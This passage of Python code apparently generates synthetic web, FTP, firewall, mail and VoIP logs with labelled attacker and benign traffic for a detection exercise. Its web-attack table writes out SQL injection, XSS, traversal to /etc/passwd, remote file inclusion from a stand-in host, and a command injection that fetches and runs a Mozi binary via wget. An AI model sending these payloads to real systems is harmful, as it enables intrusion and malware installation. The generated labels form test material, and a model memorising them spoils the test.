            ("GET", "/index.php?id=1'+AND+SLEEP(5)--+-", 200, "sqlmap/1.8.2#stable (https://sqlmap.org)"),
            ("GET", "/?s=x%27)%20OR%201=1--%20", 200, b),
            ("GET", "/wp-admin/admin-ajax.php?action=get_posts&id=-1+union+select+1,2,3,database()--", 400, b),
            ("GET", "/products.php?cat=2%20AND%20extractvalue(1,concat(0x7e,(select%20version())))", 404, "python-requests/2.31.0"),
        ],
        "xss": [
            ("GET", "/?s=%3Cscript%3Ealert(document.cookie)%3C/script%3E", 200, b),
            ("GET", "/search?q=%22%3E%3Csvg/onload=alert(1)%3E", 404, b),
            ("GET", "/?s=<img+src=x+onerror=alert(1)>", 200, b),
            ("GET", "/contact/?name=%3Ciframe%20src=javascript:alert(1)%3E", 200, b),
        ],
        "traversal": [
            ("GET", "/../../../../../../etc/passwd", 400, b),
            ("GET", "/index.php?page=../../../../../../etc/passwd", 404, "curl/8.5.0"),
            ("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", 400, "curl/8.5.0"),
            ("GET", "/wp-content/plugins/wp-file-manager/download.php?file=..%2F..%2F..%2F..%2Fwp-config.php", 404, b),
            ("GET", "/static/..%252f..%252f..%252f..%252fetc%252fshadow", 404, b),
        ],
        "rfi": [
            ("GET", "/index.php?page=http://evil-host.example.ru/shell.txt?", 404, b),
            ("GET", "/wp-content/plugins/x/inc.php?path=http://198.18.7.7/c99.txt%00", 404, "libwww-perl/6.72"),
        ],
        "cmdi": [
            ("GET", "/cgi-bin/ping.cgi?host=127.0.0.1;cat%20/etc/passwd", 404, b),
            ("GET", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://1.2.3.4:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1", 404, "Mozilla/5.0"),
            ("POST", "/boaform/admin/formLogin", 404, "Mozilla/5.0"),
        ],
        "spring4shell": [
            ("POST", "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT", 200, b),
            ("GET", "/?class.module.classLoader.URLs%5B0%5D=0", 400, "python-requests/2.28.1"),
        ],
        "phpunit": [
            ("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36"),
            ("GET", "/laravel/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404, "Custom-AsyncHttpClient"),
            ("POST", "/api/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404, b),
        ],
        "thinkphp": [
            ("GET", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21", 404, b),
            ("GET", "/index.php?s=index/think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id", 404, b),
            ("GET", "/?s=captcha&_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=id", 200, b),
        ],
    }.get(kind)
    if choices is None:
        raise ValueError(kind)
    return rng.choice(choices)


def gen_web(rng, addr, span):
    log, lab = Log(), Labels()
    w = Web(rng, log)

    def form():
        return "v6" if rng.random() < 0.15 else "v4"

    # Visitors: a few sessions each, pages with their assets, some searches (with quotes and
    # SQL-looking words that are not attacks), the odd 404.
    for _ in range(220):
        f = form()
        ip, _ = addr.pick(f)
        ua = rng.choice(BROWSERS)
        lab.set(ip, "none", "benign", "web/visitor", form=f)
        for _ in range(rng.randint(1, 3)):
            t = rng.uniform(0, span - 3600)
            ref = rng.choice(["https://www.google.com/", "-", "https://duckduckgo.com/"])
            for p in range(rng.randint(2, 12)):
                r = rng.random()
                if r < 0.15:
                    url = "/?s=" + rng.choice(SEARCHES)
                elif r < 0.2:
                    url = rng.choice(["/2023/old-post-removed/", "/apple-touch-icon.png", "/wp-content/uploads/2019/old.jpg"])
                else:
                    url = rng.choice(POSTS)
                st = 404 if url.startswith(("/2023/", "/apple", "/wp-content/uploads/2019")) else rng.choice([200, 200, 200, 304])
                w.req(t, ip, "GET", url, st, ua, ref)
                if st != 404:
                    for a in rng.sample(ASSETS, k=rng.randint(2, 6)):
                        w.req(t + rng.uniform(0.1, 1.5), ip, "GET", a, rng.choice([200, 304]), ua, "https://www.example.org" + url)
                ref = "https://www.example.org" + url
                t += rng.uniform(5, 120)
    # Two visitors clicking outbound links through the site's redirector (?url=http://...).
    for _ in range(2):
        ip = addr.v4()
        ua = rng.choice(BROWSERS)
        lab.set(ip, "none", "benign", "web/visitor-outbound-links", form="v4")
        t = rng.uniform(0, span - 3600)
        for _ in range(rng.randint(5, 7)):
            w.req(t, ip, "GET", "/go.php?url=http://partner-%d.example.net/offer" % rng.randrange(50), 302, ua,
                  "https://www.example.org/links/")
            t += rng.uniform(10, 80)
    # Crawlers.
    for a, ua in CRAWLERS:
        ip = addr.v4(int(a))
        lab.set(ip, "none", "benign", "web/crawler", form="v4")
        for _ in range(rng.randint(150, 500)):
            t = rng.uniform(0, span)
            r = rng.random()
            if r < 0.03:
                url, st = rng.choice(["/2022/deleted-post/", "/tag/oldtag/", "/wp-login.php?action=register"]), 404
            elif r < 0.06:
                url, st = "/robots.txt", 200
            elif r < 0.08:
                url, st = "/sitemap.xml", 200
            else:
                url, st = rng.choice(POSTS), rng.choice([200, 200, 200, 301])
            w.req(t, ip, "GET", url, st, ua)
    # API clients: an uptime monitor every minute, a partner integration in hourly bursts.
    ip = addr.v4()
    lab.set(ip, "none", "benign", "web/monitor", form="v4")
    t = rng.uniform(0, 60)
    while t < span:
        w.req(t, ip, "GET", "/api/v1/health", 200, "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", size=17)
        t += 60
    ip = addr.v4()
    lab.set(ip, "none", "benign", "web/api-batch", form="v4")
    t = rng.uniform(0, 3600)
    while t < span:
        for page in range(1, rng.randint(20, 50)):
            w.req(t + page * rng.uniform(0.3, 0.9), ip, "GET", "/api/v1/items?page=%d&per_page=100" % page, 200, "python-requests/2.31.0")
        t += 3600
    # WordPress editors: log in (one mistypes twice), edit with the heartbeat running.
    for mistypes in (0, 2):
        ip = addr.v4()
        ua = rng.choice(BROWSERS)
        lab.set(ip, "none", "benign", "web/wp-editor" + ("-mistypes" if mistypes else ""), form="v4")
        for day in range(int(span // 86400)):
            t = day * 86400 + rng.uniform(8 * 3600, 18 * 3600)
            w.req(t, ip, "GET", "/wp-login.php", 200, ua)
            for _ in range(mistypes if day == 1 else 0):
                t += rng.uniform(5, 20)
                w.req(t, ip, "POST", "/wp-login.php", 200, ua, "https://www.example.org/wp-login.php")
            t += rng.uniform(5, 20)
            w.req(t, ip, "POST", "/wp-login.php", 302, ua, "https://www.example.org/wp-login.php")
            w.req(t + 1, ip, "GET", "/wp-admin/", 200, ua)
            for k in range(rng.randint(10, 40)):
                w.req(t + 60 * (k + 1), ip, "POST", "/wp-admin/admin-ajax.php", 200, ua, "https://www.example.org/wp-admin/post.php?post=42&action=edit")
    # TLS handshakes and junk on port 80: background noise of the internet, one or two each.
    for _ in range(8):
        ip = addr.v4()
        lab.set(ip, "none", "benign", "web/junk-400", form="v4")
        for _ in range(rng.randint(1, 2)):
            t = rng.uniform(0, span)
            w.log.add(t, '%s - - [%s] "\\x16\\x03\\x01\\x00\\xee\\x01\\x00\\x00\\xea\\x03\\x03" 400 226 "-" "-"'.replace("%s", ip, 1))

    # ---- attackers
    def attacker_ip(category, profile, **kw):
        f = form()
        ip, _ = addr.pick(f)
        lab.set(ip, category, "attacker", profile, form=f, **kw)
        return ip

    def prober(profile, n, paths, step, uas=BROWSERS, method=lambda: "GET"):
        """One address requesting n of `paths` in random order, step[0] to step[1] s apart, as one of
        `uas`; the site answers 404, but 403 to /server-status."""
        ip = attacker_ip("recon", profile, requests=n)
        ua = rng.choice(uas)
        t = rng.uniform(0, span - 600)
        for url in rng.sample(paths, k=n):
            w.req(t, ip, method(), url, 404 if url != "/server-status" else 403, ua)
            t += rng.uniform(*step)

    # recon: secrets hunters, admin-panel probers, webshell hunters, dir-busters, Nikto
    for _ in range(10):
        prober("recon/secrets", rng.choice([1, 2, 3, 5, 8, 12, 20]), SENSITIVE, (0.1, 3),
               BROWSERS + ["Go-http-client/1.1", "python-requests/2.28.1", "Mozilla/5.0 zgrab/0.x", "curl/7.88.1"])
    for _ in range(6):
        prober("recon/admin-panels", rng.randint(3, 12), ADMIN, (0.2, 4))
    for _ in range(5):
        prober("recon/webshells", rng.randint(5, 20), SHELLS, (0.2, 2), method=lambda: rng.choice(["GET", "POST"]))
    for i in range(4):
        n = rng.randint(150, 600)
        ua = ["gobuster/3.6", "Fuzz Faster U Fool v2.1.0-dev", rng.choice(BROWSERS), rng.choice(BROWSERS)][i]
        ip = attacker_ip("recon", "recon/dirbuster", requests=n)
        t = rng.uniform(0, span - 600)
        words = [rng.choice(["/", "/wp-content/", "/api/"]) + wd + rng.choice(["", "/", ".php", ".bak", ".zip", ".txt"])
                 for wd in WORDLIST for _ in range(8)]
        for url in rng.sample(words, k=min(n, len(words))):
            w.req(t, ip, "GET", url, 404, ua)
            t += rng.uniform(0.02, 0.12)
    for _ in range(2):
        n = rng.randint(300, 700)
        ip = attacker_ip("recon", "recon/nikto", requests=n)
        ua = "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:%06d)"
        t = rng.uniform(0, span - 3600)
        pool = SENSITIVE + ADMIN + SHELLS + ["/" + x + "/" for x in WORDLIST] + [
            "/cgi-bin/test-cgi", "/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir", "/?<script>alert(42)</script>",
            "/index.php?module=../../../../etc/passwd"]
        for k in range(n):
            url = rng.choice(pool)
            w.req(t, ip, "GET", url, rng.choice([404, 404, 404, 403, 400]), ua % (k + 1))
            t += rng.uniform(0.3, 1.5)
    # web-attack: single shots of one kind each
    for kind, count in (("sqli", 8), ("xss", 5), ("traversal", 6), ("log4shell", 5), ("spring4shell", 3),
                        ("phpunit", 4), ("thinkphp", 4), ("shellshock", 2), ("rfi", 2), ("cmdi", 3)):
        for _ in range(count):
            n = rng.choice([1, 1, 2, 3])
            ip = attacker_ip("web-attack", "web-attack/" + kind, requests=n)
            t = rng.uniform(0, span - 600)
            for _ in range(n):
                m, url, st, ua = web_attack_requests(rng, kind)
                w.req(t, ip, m, url, st, ua)
                t += rng.uniform(0.5, 30)
    # bruteforce against WordPress: wp-login.php, xmlrpc.php, and two slow ones
    for i in range(8):
        n = rng.randint(15, 400)
        target = "/xmlrpc.php" if i >= 6 else "/wp-login.php"
        ip = attacker_ip("bruteforce", "bruteforce/" + target.strip("/").replace(".php", ""), requests=n)
        ua = rng.choice(BROWSERS + ["Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:57.0) Gecko/20100101 Firefox/57.0"])
        t = rng.uniform(0, span - 7200)
        if target == "/wp-login.php":
            w.req(t, ip, "GET", target, 200, ua)
        for _ in range(n):
            t += rng.uniform(0.5, 6)
            w.req(t, ip, "POST", target, 200, ua, "-" if target == "/xmlrpc.php" else "https://www.example.org/wp-login.php")
    for _ in range(2):
        n = rng.randint(40, 120)
        ip = attacker_ip("bruteforce", "bruteforce/wp-login/slow", requests=n)
        ua = rng.choice(BROWSERS)
        t = rng.uniform(0, span / 2)
        for _ in range(n):
            w.req(t, ip, "POST", "/wp-login.php", 200, ua, "https://www.example.org/wp-login.php")
            t += rng.uniform(120, 400)
    # dos: hundreds of requests within 20 seconds
    for _ in range(4):
        n = rng.randint(300, 1500)
        ip = attacker_ip("dos", "dos/flood", requests=n)
        ua = rng.choice(BROWSERS + ["Go-http-client/1.1", "-"])
        t = rng.uniform(0, span - 600)
        url = rng.choice(["/", "/?s=%d", "/wp-login.php", "/xmlrpc.php"])
        for _ in range(n):
            tt = t + rng.uniform(0, 20)
            w.req(tt, ip, "GET", url.replace("%d", str(rng.randrange(10 ** 6))), rng.choice([200, 200, 503]), ua)
    return log, lab


# ------------------------------------------------------------------------------------------ ftp

def gen_ftp(rng, addr, span):
    log, lab = Log(), Labels()

    def L(t, c, msg, pid=PID):
        log.add(t, "%s files vsftpd[" + pid + "]: " + msg, c)

    valid = ["alice", "bob", "copier", "backup", "webdev", "ftp"]

    def session(t, ip, attempts_users, success_user=None):
        """One control connection: CONNECT, failed logins (max_login_fails 3), maybe a login."""
        c = log.conn()
        client = 'Client "::ffff:%s"' % ip
        L(t, c, "[pid %s] CONNECT: %s" % (PID, client))
        times = []
        for u in attempts_users:
            t += rng.uniform(1.5, 5)
            if u not in valid:
                L(t, c, "pam_unix(vsftpd:auth): check pass; user unknown")
            L(t, c, "pam_unix(vsftpd:auth): authentication failure; logname= uid=0 euid=0 tty=ftp ruser=%s rhost=::ffff:%s%s"
              % (u, ip, "  user=%s" % u if u in valid else ""))
            t += 2.5  # vsftpd's delay_failed_login
            L(t, c, "[pid %s] [%s] FAIL LOGIN: %s" % (PID, u, client))
            times.append(t)
        if success_user:
            t += rng.uniform(2, 6)
            L(t, c, "[pid %s] [%s] OK LOGIN: %s" % (PID, success_user, client))
            for _ in range(rng.randint(0, 4)):
                t += rng.uniform(1, 60)
                L(t, c, '[pid %s] [%s] OK %s: %s, "/upload/report-%d.csv", %d bytes, %.2fKbyte/sec'
                  % (PID2, success_user, rng.choice(["UPLOAD", "DOWNLOAD"]), client, rng.randrange(1000),
                     rng.randrange(1000, 10 ** 7), rng.uniform(100, 9000)), pid=PID2)
        return t, times

    for name in ["alice", "bob", "copier", "backup", "webdev"]:
        ip = addr.v4()
        mist = name in ("alice", "webdev")
        lab.set(ip, "bruteforce", "benign", "ftp/user-mistypes" if mist else "ftp/user")
        t = rng.uniform(0, 3600)
        while t < span - 600:
            fails = [name] * rng.choice([0, 0, 1, 2]) if mist else []
            session(t, ip, fails, name)
            t += rng.uniform(3600, 5 * 3600) if name != "copier" else 900  # a copier uploading scans
    for i in range(6):  # port scanners: CONNECT and leave
        ip = addr.v4()
        lab.set(ip, "bruteforce", "benign", "ftp/scanner")
        for _ in range(rng.randint(1, 4)):
            session(rng.uniform(0, span), ip, [])

    def attack(profile, attempts, label="attacker", gap=lambda: rng.uniform(1, 15)):
        ip = addr.v4()
        t = rng.uniform(600, span - 6 * 3600) if "slow" not in profile else rng.uniform(600, span / 2)
        users = rng.sample(["admin", "root", "ftp", "test", "anonymous", "user", "www", "backup", "alice", "administrator",
                            "ftpuser", "upload", "guest", "web", "info"], k=6)
        times = []
        while len(times) < attempts:
            k = 1 if "slow" in profile else min(rng.randint(1, 3), attempts - len(times))
            t, got = session(t, ip, [rng.choice(users) for _ in range(k)])
            times += got
            t += gap()
        lab.set(ip, "bruteforce", label, profile, attempts=len(times), max_10min=fail_windows(times), form="mapped")
        if label == "attacker" and "slow" not in profile:
            assert fail_windows(times) >= 5

    for _ in range(6):
        attack("ftp/5-10", rng.randint(5, 10))
    for _ in range(6):
        attack("ftp/tens", rng.randint(11, 90))
    for _ in range(3):
        attack("ftp/hundreds", rng.randint(100, 400), gap=lambda: rng.uniform(0.5, 3))
    for _ in range(2):
        attack("ftp/slow", rng.randint(12, 30), gap=lambda: rng.uniform(600, 1800))
    for _ in range(5):
        attack("ftp/below", rng.choice([3, 4]), label="below")
    # A connection flood with no login attempt: recon (ftp-connection-burst's case).
    ip = addr.v4()
    lab.set(ip, "recon", "attacker", "ftp/connection-flood", connections=40, form="mapped")
    t = rng.uniform(600, span - 600)
    for _ in range(40):
        session(t, ip, [])
        t += rng.uniform(0.2, 1.5)
    return log, lab


# -------------------------------------------------------------------------------------- firewall

COMMON_PORTS = [21, 22, 23, 25, 53, 80, 81, 110, 111, 135, 139, 143, 443, 445, 465, 587, 993,
                995, 1433, 1521, 1723, 2222, 2375, 3306, 3389, 5432, 5900, 6379, 8000, 8080,
                8081, 8443, 8888, 9200, 11211, 27017]


def most_distinct(events, window=300):
    """Most distinct values among (time, value) events within any `window` seconds."""
    events = sorted(events)
    best = 0
    for i, (t0, _) in enumerate(events):
        seen = {v for t, v in events[i:] if t - t0 <= window}
        best = max(best, len(seen))
    return best


def gen_fw(rng, addr, span):
    """kern.log of fw01, an Ubuntu gateway with UFW (logging medium): eth0 faces the internet
    (our addresses 192.0.2.10-12), eth1 the servers behind it (10.0.0.0/24, reached by DNAT and
    forwarding). Refused packets are `[UFW BLOCK]`; new allowed connections `[UFW ALLOW]` (and
    `[UFW AUDIT]` for the admins' network)."""
    log, lab = Log(), Labels()
    ours = ["192.0.2.10", "192.0.2.11", "192.0.2.12"]
    inside = ["10.0.0.%d" % i for i in range(2, 254)]
    boot = rng.uniform(10 ** 5, 10 ** 6)

    def pkt(t, src, dst, dpt, prefix="[UFW BLOCK]", proto="TCP", flags="SYN", spt=None, out="",
            v6=False):
        spt = spt if spt is not None else rng.randint(1024, 65535)
        mac = "00:16:3e:5a:1c:01:00:0c:29:7f:44:21:" + ("86:dd" if v6 else "08:00")
        if v6:
            ipf = "LEN=60 TC=0 HOPLIMIT=%d FLOWLBL=%d" % (rng.randint(40, 64), rng.randrange(1 << 20))
        else:
            ipf = "LEN=%d TOS=0x00 PREC=0x00 TTL=%d ID=%d%s" % (
                40 if flags != "SYN" else rng.choice([44, 52, 60]), rng.randint(38, 250),
                rng.randrange(65536), " DF" if rng.random() < 0.5 else "")
        if proto == "TCP":
            tail = "PROTO=TCP SPT=%d DPT=%d WINDOW=%d RES=0x00 %sURGP=0" % (
                spt, dpt, rng.choice([0, 1024, 29200, 64240, 65535]), flags + " " if flags else "")
        else:
            tail = "PROTO=UDP SPT=%d DPT=%d LEN=%d" % (spt, dpt, rng.randint(20, 500))
        up = boot + t
        log.add(t, "%%s fw01 kernel: [%d.%06d] %s IN=eth0 OUT=%s MAC=%s SRC=%s DST=%s %s %s"
                % (int(up), rng.randrange(10 ** 6), prefix, out, mac, src, dst, ipf, tail))

    def dst_for(port):
        return rng.choice(ours)

    # Internet background: each address knocks on one to three common ports, once.
    for _ in range(700):
        ip = addr.v4()
        lab.set(ip, "recon", "benign", "fw/background")
        t = rng.uniform(0, span)
        for port in rng.sample(COMMON_PORTS, rng.randint(1, 3)):
            for _ in range(rng.choice([1, 1, 2])):  # a retransmitted SYN
                pkt(t, ip, dst_for(port), port)
                t += rng.uniform(0.5, 3)
            t += rng.uniform(1, 600)
    def benign(profile, sources, packets, gap, sender):
        """`sources` benign addresses of `profile`, each sending `packets()` packets `gap()` apart
        from a moment of the span; `sender(ip)` gives the function that logs one at a time."""
        for _ in range(sources):
            ip = addr.v4()
            lab.set(ip, "recon", "benign", profile)
            t = rng.uniform(0, span - 3600)
            send = sender(ip)
            for _ in range(packets()):
                send(t)
                t += gap()

    # Visitors of the web site: allowed, logged as new connections.
    benign("fw/web-visitor", 150, lambda: rng.randint(1, 12), lambda: rng.uniform(1, 900),
           lambda ip: lambda t: pkt(t, ip, ours[0], rng.choice([80, 443]), prefix="[UFW ALLOW]", out="eth1"))
    # Servers our hosts talked to, answering late (connection already gone: INVALID, refused):
    # ACK, RST and FIN-ACK to dozens of our ephemeral ports.
    benign("fw/backscatter", 25, lambda: rng.randint(20, 90), lambda: rng.uniform(0.2, 20),
           lambda ip: lambda t: pkt(t, ip, rng.choice(ours), rng.randint(32768, 60999),
                                    flags=rng.choice(["ACK RST", "RST", "ACK FIN", "ACK PSH FIN", "ACK"]),
                                    spt=rng.choice([443, 443, 80, 993, 5222])))

    # DNS and NTP answers to ports already closed, each server from its own port.
    def answers(ip):
        sport = rng.choice([53, 53, 123])
        return lambda t: pkt(t, ip, rng.choice(ours), rng.randint(32768, 60999), proto="UDP", spt=sport)

    benign("fw/udp-answers", 6, lambda: rng.randint(30, 120), lambda: rng.uniform(0.5, 30), answers)
    # Passive FTP clients: a new allowed data port for every transfer.
    for _ in range(3):
        ip = addr.v4()
        lab.set(ip, "recon", "benign", "fw/ftp-passive")
        t = rng.uniform(0, span - 7200)
        for _ in range(rng.randint(3, 8)):
            pkt(t, ip, ours[1], 21, prefix="[UFW ALLOW]", out="eth1")
            for _ in range(rng.randint(20, 60)):
                t += rng.uniform(1, 8)
                pkt(t, ip, ours[1], rng.randint(40000, 40999), prefix="[UFW ALLOW]", out="eth1")
            t += rng.uniform(600, 6 * 3600)
    # The admins' monitoring, audited: twenty service ports of every server, every five minutes.
    mon = addr.internal()
    lab.set(mon, "recon", "benign", "fw/monitoring")
    t = rng.uniform(0, 300)
    while t < span:
        for port in COMMON_PORTS[:20]:
            pkt(t, mon, rng.choice(inside[:10]), port, prefix="[UFW AUDIT]", out="eth1")
            t += rng.uniform(0.01, 0.2)
        t += 300
    # A few ports only: neither scan nor noise.
    for _ in range(12):
        ip = addr.v4()
        t = rng.uniform(0, span - 3600)
        ports = rng.sample(COMMON_PORTS, rng.randint(5, 9))
        ev = []
        for port in ports:
            pkt(t, ip, rng.choice(ours), port)
            ev.append((t, port))
            t += rng.uniform(0.5, 40)
        lab.set(ip, "recon", "below", "fw/few-ports", ports=len(ports))

    def scan(profile, ports, gap, flags="SYN", sweep=False, v6=False):
        ip = addr.v6() if v6 else addr.v4()
        dst = rng.choice(ours) if not v6 else "2001:db8::10"
        t = rng.uniform(600, span - 3600)
        ev = []
        for port in ports:
            if sweep:
                for host in rng.sample(inside, rng.randint(30, 250)):
                    pkt(t, ip, host, port, flags=flags, out="eth1")
                    ev.append((t, host))
                    t += gap()
            else:
                f = flags if flags != "mixed" else rng.choice(["FIN", "URG PSH FIN", ""])
                pkt(t, ip, dst, port, flags=f, v6=v6)
                ev.append((t, port))
                t += gap()
        lab.set(ip, "recon", "attacker", profile, probes=len(ev), max_5min=most_distinct(ev))
        assert most_distinct(ev) >= 15, profile

    for _ in range(8):  # nmap / masscan, top ports, fast
        scan("fw/vertical-fast", rng.sample(range(1, 10000), rng.randint(100, 1000)), lambda: rng.uniform(0, 0.05))
    for _ in range(4):  # nmap -T2 / -T1
        scan("fw/vertical-slow", rng.sample(COMMON_PORTS, rng.randint(20, 36)), lambda: rng.uniform(3, 15))
    for _ in range(3):  # FIN, NULL and Xmas probes
        scan("fw/stealth", rng.sample(range(1, 2000), rng.randint(50, 200)), lambda: rng.uniform(0, 0.5), flags="mixed")
    for _ in range(4):  # one service across the network behind the gateway
        scan("fw/sweep", [rng.choice([22, 23, 445, 3389, 5900])], lambda: rng.uniform(0.01, 1.0), sweep=True)
    scan("fw/vertical-v6", rng.sample(range(1, 5000), 150), lambda: rng.uniform(0, 0.2), v6=True)
    return log, lab


# ------------------------------------------------------------------------------------------ mail

def gen_mail(rng, addr, span):
    log, lab = Log(), Labels()
    lip = "192.0.2.25"

    def sess_id():
        return "".join(rng.choice(string.ascii_letters + string.digits + "+/") for _ in range(16))

    def qid():
        return "".join(rng.choice("0123456789ABCDEF") for _ in range(10))

    def postfix_conn(t, ip, fails, user=None, svc=None):
        """A submission/smtps connection with `fails` failed SASL attempts, then maybe a login."""
        svc = svc or rng.choice(["submission", "smtps"])
        c = log.conn()
        P = lambda tt, m: log.add(tt, "%s mx1 postfix/" + svc + "/smtpd[" + PID + "]: " + m, c)  # noqa: E731
        host = "unknown[%s]" % ip
        P(t, "connect from " + host)
        times = []
        for _ in range(fails):
            t += rng.uniform(1, 4)
            mech = rng.choice(["LOGIN", "LOGIN", "PLAIN"])
            P(t, "warning: %s: SASL %s authentication failed: %s"
              % (host, mech, "UGFzc3dvcmQ6" if mech == "LOGIN" else "authentication failure"))
            times.append(t)
        t += rng.uniform(0.2, 2)
        if user:
            q = qid()
            P(t, "%s: client=%s, sasl_method=PLAIN, sasl_username=%s@example.org" % (q, host, user))
            P(t + 1, "disconnect from %s ehlo=2 starttls=1 auth=1 mail=1 rcpt=1 data=1 quit=1 commands=8" % host)
        else:
            if rng.random() < 0.5:
                P(t, "lost connection after AUTH from " + host)
            P(t, "disconnect from %s ehlo=1 auth=0/%d commands=1/%d" % (host, max(fails, 1), max(fails, 1) + 1))
        return t, times

    def dovecot_conn(t, ip, fails, user, proto=None, login=False):
        proto = proto or rng.choice(["imap", "imap", "pop3"])
        times = []
        if fails:
            dur = int(fails * rng.uniform(2, 6))
            t += dur
            times = [t] * fails
            how = rng.choice(["Disconnected: Connection closed", "Disconnected", "Aborted login"]) if proto == "imap" else "Aborted login"
            log.add(t, "%%s mx1 dovecot: %s-login: %s (auth failed, %d attempts in %d secs): user=<%s>, method=PLAIN, rip=%s, lip=%s, TLS, session=<%s>"
                    % (proto, how, fails, dur, user, ip, lip, sess_id()))
        if login:
            t += rng.uniform(1, 5)
            log.add(t, "%%s mx1 dovecot: %s-login: Login: user=<%s>, method=PLAIN, rip=%s, lip=%s, mpid=%d, TLS, session=<%s>"
                    % (proto, user, ip, lip, rng.randrange(2000, 60000), sess_id()))
            t += rng.uniform(5, 1800)
            log.add(t, "%%s mx1 dovecot: %s(%s)<%d><%s>: Logged out in=%d out=%d"
                    % (proto, user, rng.randrange(2000, 60000), sess_id(), rng.randrange(100, 5000), rng.randrange(500, 10 ** 6)))
        return t, times

    def form():
        return "v6" if rng.random() < 0.15 else "v4"

    # Users: IMAP clients polling, sending through submission, some mistypes; a phone with a
    # stale password retrying every 5-9 minutes for hours (benign: never 5 in 10 minutes).
    for name in ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi"]:
        f = form()
        ip, _ = addr.pick(f)
        mist = name in ("bob", "erin", "heidi")
        lab.set(ip, "bruteforce", "benign", "mail/user-mistypes" if mist else "mail/user", form=f)
        t = rng.uniform(0, 3600)
        while t < span - 3600:
            if rng.random() < 0.3:
                postfix_conn(t, ip, rng.choice([0, 0, 1]) if mist else 0, user=name, svc="submission")
            else:
                dovecot_conn(t, ip, rng.choice([0, 0, 1, 2]) if mist else 0, name, login=True)
            t += rng.uniform(1200, 4 * 3600)
    ip = addr.v4()
    lab.set(ip, "bruteforce", "benign", "mail/stale-password-phone", form="v4")
    t = rng.uniform(3600, span / 2)
    for _ in range(rng.randint(40, 80)):
        dovecot_conn(t, ip, 1, "ivan", proto="imap")
        t += rng.uniform(300, 540)
    # Inbound mail from other servers: connect, deliver, disconnect (no AUTH).
    for k in range(6):
        ip = addr.v4()
        lab.set(ip, "bruteforce", "benign", "mail/mta", form="v4")
        host = "mail-%s.example-%d.net" % (rng.choice(["out", "relay", "mx"]), k)
        for _ in range(rng.randint(20, 80)):
            t = rng.uniform(0, span)
            c = log.conn()
            P = lambda tt, m: log.add(tt, "%s mx1 postfix/smtpd[" + PID + "]: " + m, c)  # noqa: E731
            P(t, "connect from %s[%s]" % (host, ip))
            P(t + 0.5, "%s: client=%s[%s]" % (qid(), host, ip))
            P(t + 1.2, "disconnect from %s[%s] ehlo=2 starttls=1 mail=1 rcpt=1 data=1 quit=1 commands=7" % (host, ip))

    def attack(profile, attempts, service, label="attacker", gap=lambda: rng.uniform(2, 30)):
        f = form()
        ip, _ = addr.pick(f)
        t = rng.uniform(600, span - 6 * 3600)
        times = []
        users = rng.sample(["admin", "info", "test", "sales", "contact", "office", "support", "alice", "bob", "webmaster",
                            "postmaster", "noreply", "hr", "billing"], k=5)
        while len(times) < attempts:
            k = min(rng.choice([1, 1, 2, 3]), attempts - len(times))
            if service == "postfix":
                t, got = postfix_conn(t, ip, k)
            else:
                t, got = dovecot_conn(t, ip, k, rng.choice(users))
            times += got
            t += gap()
        lab.set(ip, "bruteforce", label, profile, attempts=len(times), max_10min=fail_windows(times), form=f)
        if label == "attacker":
            assert fail_windows(times) >= 5

    for svc in ("postfix", "dovecot"):
        for _ in range(5):
            attack("mail/%s/5-10" % svc, rng.randint(5, 10), svc)
        for _ in range(5):
            attack("mail/%s/tens" % svc, rng.randint(11, 90), svc)
        for _ in range(2):
            attack("mail/%s/hundreds" % svc, rng.randint(100, 400), svc, gap=lambda: rng.uniform(0.5, 4))
        for _ in range(3):
            attack("mail/%s/below" % svc, rng.choice([3, 4]), svc, label="below")
    # A password-spraying botnet against submission: 1-2 attempts per address.
    t0 = rng.uniform(3600, span - 3 * 3600)
    for _ in range(30):
        f = form()
        ip, _ = addr.pick(f)
        n = rng.randint(1, 2)
        t = t0 + rng.uniform(0, 3600)
        for _ in range(n):
            t, _ = postfix_conn(t, ip, 1)
            t += rng.uniform(60, 600)
        lab.set(ip, "bruteforce", "distributed", "mail/distributed", attempts=n, form=f)
    return log, lab


# ------------------------------------------------------------------------------------------ VoIP

def gen_voip(rng, addr, span):
    """Asterisk's `messages` file on an agency PBX (pbx01): chan_sip and PJSIP phones inside and
    a few softphones outside, SIP password guessing, extension enumeration, manager logins, and
    toll-fraud bots dialling international numbers."""
    log, lab = Log(), Labels()
    pbx = "192.0.2.40"

    def N(t, m, lvl="NOTICE"):
        log.add(t, "[%s] " + "%s[%d] %s" % (lvl, rng.randint(1000, 32000), m))

    def callid():
        return "".join(rng.choice(string.ascii_letters + string.digits) for _ in range(22))

    def reg_fail(t, ip, ext, reason, pjsip=False):
        port = rng.randint(1024, 65535)
        if pjsip:
            why = {"Wrong password": "Failed to authenticate",
                   "No matching peer found": "No matching endpoint found"}[reason]
            N(t, "res_pjsip/pjsip_distributor.c: Request 'REGISTER' from '<sip:%s@%s>' failed for '%s:%d' "
                 "(callid: %s) - %s" % (ext, pbx, ip, port, callid(), why))
        else:
            N(t, "chan_sip.c: Registration from '\"%s\" <sip:%s@%s>' failed for '%s:%d' - %s"
                 % (ext, ext, pbx, ip, port, reason))

    def call_rejected(t, ip, caller, number, context):
        N(t, "chan_sip.c: Call from '%s' (%s:%d) to extension '%s' rejected because extension not found "
             "in context '%s'." % (caller, ip, rng.randint(5060, 5090), number, context))

